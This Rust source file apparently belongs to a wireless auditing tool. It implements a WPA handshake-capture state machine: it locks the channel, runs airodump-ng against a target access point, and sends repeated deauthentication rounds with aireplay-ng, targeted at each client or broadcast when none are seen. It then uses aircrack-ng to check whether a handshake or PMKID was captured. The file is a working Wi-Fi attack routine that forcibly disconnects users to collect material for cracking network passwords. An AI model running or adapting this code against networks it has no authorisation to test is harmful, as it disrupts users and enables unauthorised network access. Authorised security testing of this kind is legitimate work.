//! Handshake capture state machine
//!
//! Drives a target through channel lock, background capture, bounded
//! deauthentication rounds, an extended passive wait, and verification.
//! Every wait is cancellable; cancellation surfaces as `Error::Cancelled`
//! and the caller runs the one teardown.

use crate::parser;
use crate::report::{meets_size_floor, CaptureReport, HandshakeQuality};
use chrono::Utc;
use skylark_core::{Config, Encryption, Error, MacAddr, Network, Result};
use skylark_session::{CancelToken, Session, ToolRunner};
use std::path::PathBuf;
use std::time::Duration;
use tracing::{debug, info, warn};
use uuid::Uuid;

/// States of the capture machine, in rough execution order
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureState {
    Init,
    Capturing,
    DeauthRound(u32),
    ExtendedWait,
    Verifying,
    Captured,
    Failed,
}

/// Diagnostic hints attached to a failed run. Hints, not verdicts: the
/// machine cannot see why the air stayed quiet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FailureHint {
    /// No client ever associated, so deauth had nothing to shake loose
    NoClients,
    /// WPA3 targets resist deauth-based capture by design of the protocol
    Wpa3Suspected,
    /// The capture tool died early; the interface may not really be in
    /// monitor mode
    MonitorModeIssue,
}

/// Terminal outcome of a run that was not cancelled
#[derive(Debug)]
pub enum HandshakeOutcome {
    Captured(CaptureReport),
    Failed {
        hints: Vec<FailureHint>,
        /// Partial capture kept on disk for manual inspection
        artifact: Option<PathBuf>,
        rounds_used: u32,
    },
}

pub struct HandshakeMachine<'a> {
    runner: &'a dyn ToolRunner,
    session: &'a Session,
    cancel: &'a CancelToken,
    config: &'a Config,
    target: Network,
    state: CaptureState,
    trace: Vec<CaptureState>,
    capture_id: Option<Uuid>,
    cap_file: PathBuf,
    csv_file: PathBuf,
    rounds_used: u32,
    saw_clients: bool,
}

impl<'a> HandshakeMachine<'a> {
    pub fn new(
        runner: &'a dyn ToolRunner,
        session: &'a Session,
        cancel: &'a CancelToken,
        config: &'a Config,
        target: Network,
    ) -> Self {
        let prefix = session.capture_prefix(&target.file_essid());
        let prefix = prefix.to_string_lossy();
        Self {
            runner,
            session,
            cancel,
            config,
            target,
            state: CaptureState::Init,
            trace: vec![CaptureState::Init],
            capture_id: None,
            cap_file: PathBuf::from(format!("{prefix}-01.cap")),
            csv_file: PathBuf::from(format!("{prefix}-01.csv")),
            rounds_used: 0,
            saw_clients: false,
        }
    }

    /// States visited so far, in order
    pub fn trace(&self) -> &[CaptureState] {
        &self.trace
    }

    pub fn state(&self) -> CaptureState {
        self.state
    }

    fn enter(&mut self, state: CaptureState) {
        debug!(?state, "capture state");
        self.state = state;
        self.trace.push(state);
    }

    /// Cancellable sleep; stops the capture tool before surfacing the error
    async fn pause(&mut self, seconds: u64, during: &str) -> Result<()> {
        if !self.cancel.sleep(Duration::from_secs(seconds)).await {
            self.stop_capture().await;
            return Err(Error::Cancelled(during.to_string()));
        }
        Ok(())
    }

    async fn stop_capture(&mut self) {
        if let Some(id) = self.capture_id.take() {
            self.runner.terminate(id).await;
        }
    }

    /// Run the machine to a terminal state
    pub async fn run(&mut self) -> Result<HandshakeOutcome> {
        let started = Utc::now();
        self.cancel.check("handshake capture")?;

        // Init: lock the channel
        if !self.set_channel().await {
            warn!(channel = self.target.channel, "could not lock channel");
            self.enter(CaptureState::Failed);
            return Ok(self.failed(None));
        }

        // Capturing: start the background capture and make sure it lives
        self.enter(CaptureState::Capturing);
        let id = self.start_capture()?;
        self.pause(self.config.capture_settle, "capture settle").await?;

        if !self.runner.is_alive(id).await {
            warn!(bssid = %self.target.bssid, "capture tool died during settle");
            self.enter(CaptureState::Failed);
            return Ok(self.failed(Some(FailureHint::MonitorModeIssue)));
        }

        // Deauth rounds, short-circuiting on a verified signature
        let mut signature = false;
        for round in 1..=self.config.max_deauth_rounds {
            self.enter(CaptureState::DeauthRound(round));
            self.rounds_used = round;
            self.deauth_round().await?;
            self.pause(self.config.round_settle, "round settle").await?;
            if self.signature_present().await {
                signature = true;
                break;
            }
        }

        // Extended passive wait when the rounds came up empty
        if !signature {
            self.enter(CaptureState::ExtendedWait);
            signature = self.extended_wait().await?;
        }

        self.stop_capture().await;
        self.enter(CaptureState::Verifying);

        let quality = if signature || meets_size_floor(&self.cap_file) {
            self.classify().await
        } else {
            HandshakeQuality::NotFound
        };

        match quality {
            HandshakeQuality::NotFound => {
                self.enter(CaptureState::Failed);
                Ok(self.failed(None))
            }
            quality => {
                self.enter(CaptureState::Captured);
                let size = std::fs::metadata(&self.cap_file).map(|m| m.len()).unwrap_or(0);
                let report = CaptureReport::new(
                    self.session.id,
                    &self.target,
                    quality,
                    self.cap_file.clone(),
                    size,
                    self.rounds_used,
                    (Utc::now() - started).num_seconds(),
                );
                info!(
                    essid = %report.essid,
                    bssid = %report.bssid,
                    ?quality,
                    rounds = self.rounds_used,
                    "handshake captured"
                );
                Ok(HandshakeOutcome::Captured(report))
            }
        }
    }

    async fn set_channel(&self) -> bool {
        let iface = self.session.active_interface();
        let channel = self.target.channel.to_string();
        let iwconfig = self
            .runner
            .run("iwconfig", &[&iface, "channel", &channel], Some(Duration::from_secs(15)))
            .await;
        if matches!(&iwconfig, Ok(out) if out.code == 0) {
            return true;
        }
        let iw = self
            .runner
            .run(
                "iw",
                &["dev", &iface, "set", "channel", &channel],
                Some(Duration::from_secs(15)),
            )
            .await;
        matches!(iw, Ok(out) if out.code == 0)
    }

    fn start_capture(&mut self) -> Result<Uuid> {
        let iface = self.session.active_interface();
        let bssid = self.target.bssid.to_string();
        let channel = self.target.channel.to_string();
        let prefix = self
            .cap_file
            .to_string_lossy()
            .trim_end_matches("-01.cap")
            .to_string();

        // the record file is scratch; the pcap is the deliverable and is
        // kept even when the run fails
        self.session.track_artifact(self.csv_file.clone());

        let id = self.runner.spawn(
            "airodump-ng",
            &[
                "--bssid",
                &bssid,
                "--channel",
                &channel,
                "-w",
                &prefix,
                "--output-format",
                "pcap,csv",
                "--write-interval",
                "1",
                &iface,
            ],
        )?;
        self.capture_id = Some(id);
        info!(bssid = %bssid, channel = %channel, "capture started");
        Ok(id)
    }

    /// One deauthentication round: per known client, or broadcast when the
    /// record file shows none. Clients are re-read every round.
    async fn deauth_round(&mut self) -> Result<()> {
        let iface = self.session.active_interface();
        let bssid = self.target.bssid.to_string();
        let count = self.config.deauth_count.to_string();

        parser::refresh_clients(&self.csv_file, &mut self.target);
        let mut clients: Vec<MacAddr> = self.target.clients.iter().map(|c| c.mac).collect();
        clients.dedup();
        if !clients.is_empty() {
            self.saw_clients = true;
        }

        if clients.is_empty() {
            debug!(bssid = %bssid, "no clients, broadcast deauth");
            let _ = self
                .runner
                .run(
                    "aireplay-ng",
                    &["--deauth", &count, "-a", &bssid, &iface],
                    Some(Duration::from_secs(60)),
                )
                .await;
            return Ok(());
        }

        for client in &clients {
            let client_mac = client.to_string();
            debug!(client = %client_mac, "targeted deauth");
            let _ = self
                .runner
                .run(
                    "aireplay-ng",
                    &["--deauth", &count, "-a", &bssid, "-c", &client_mac, &iface],
                    Some(Duration::from_secs(60)),
                )
                .await;
            self.pause(self.config.client_gap, "client gap").await?;
        }
        Ok(())
    }

    /// Poll for a signature until `handshake_timeout` elapses
    async fn extended_wait(&mut self) -> Result<bool> {
        let poll = self.config.round_settle.max(1);
        let mut waited = 0;
        while waited < self.config.handshake_timeout {
            self.pause(poll, "extended wait").await?;
            waited += poll;
            if self.signature_present().await {
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// Heuristic signature check via the cracking tool's summary line.
    ///
    /// Ignored below the size floor; a near-empty file cannot hold a
    /// handshake no matter what the tool prints.
    async fn signature_present(&self) -> bool {
        if !meets_size_floor(&self.cap_file) {
            return false;
        }
        let cap = self.cap_file.to_string_lossy().to_string();
        match self
            .runner
            .run("aircrack-ng", &[cap.as_str()], Some(Duration::from_secs(30)))
            .await
        {
            Ok(out) => signature_in(&out.stdout),
            Err(_) => false,
        }
    }

    async fn classify(&self) -> HandshakeQuality {
        if !meets_size_floor(&self.cap_file) {
            return HandshakeQuality::NotFound;
        }
        let cap = self.cap_file.to_string_lossy().to_string();
        let Ok(out) = self
            .runner
            .run("aircrack-ng", &[cap.as_str()], Some(Duration::from_secs(30)))
            .await
        else {
            return HandshakeQuality::NotFound;
        };
        let text = out.stdout.to_lowercase();
        if signature_in(&out.stdout) {
            HandshakeQuality::Complete
        } else if text.contains("pmkid") {
            HandshakeQuality::Pmkid
        } else {
            HandshakeQuality::NotFound
        }
    }

    fn failed(&self, extra: Option<FailureHint>) -> HandshakeOutcome {
        let mut hints = Vec::new();
        if let Some(hint) = extra {
            hints.push(hint);
        }
        if !self.saw_clients {
            hints.push(FailureHint::NoClients);
        }
        if self.target.encryption == Encryption::Wpa3 {
            hints.push(FailureHint::Wpa3Suspected);
        }
        let artifact = self.cap_file.exists().then(|| self.cap_file.clone());
        HandshakeOutcome::Failed {
            hints,
            artifact,
            rounds_used: self.rounds_used,
        }
    }
}

/// True when an aircrack-ng summary reports at least one handshake.
///
/// The summary prints "(N handshake)"; a bare mention with no count is
/// trusted.
fn signature_in(stdout: &str) -> bool {
    let lower = stdout.to_lowercase();
    for (idx, _) in lower.match_indices("handshake") {
        let digits: String = lower[..idx]
            .chars()
            .rev()
            .skip_while(|c| !c.is_ascii_digit())
            .take_while(|c| c.is_ascii_digit())
            .collect::<String>()
            .chars()
            .rev()
            .collect();
        match digits.parse::<u32>() {
            Ok(n) if n > 0 => return true,
            Ok(_) => continue,
            Err(_) => return true,
        }
    }
    false
}
